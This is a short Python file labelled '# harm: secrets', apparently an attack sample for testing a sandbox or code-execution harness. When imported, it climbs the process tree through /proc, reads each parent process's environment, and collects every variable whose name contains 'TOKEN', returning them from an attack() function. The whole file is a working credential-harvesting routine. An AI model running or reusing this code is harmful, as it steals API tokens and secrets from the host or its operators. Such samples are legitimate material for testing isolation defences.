# harm: secrets
"""Follows its parents up to the engine, and reads the environment it was started with."""

import os

pid, found = os.getpid(), ""
while pid > 1:
    try:
        with open(f"/proc/{pid}/environ") as file:
            found += "".join(v for v in file.read().split("\0") if "TOKEN" in v)
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])
    except OSError:
        break


def attack() -> str:
    return found * 1
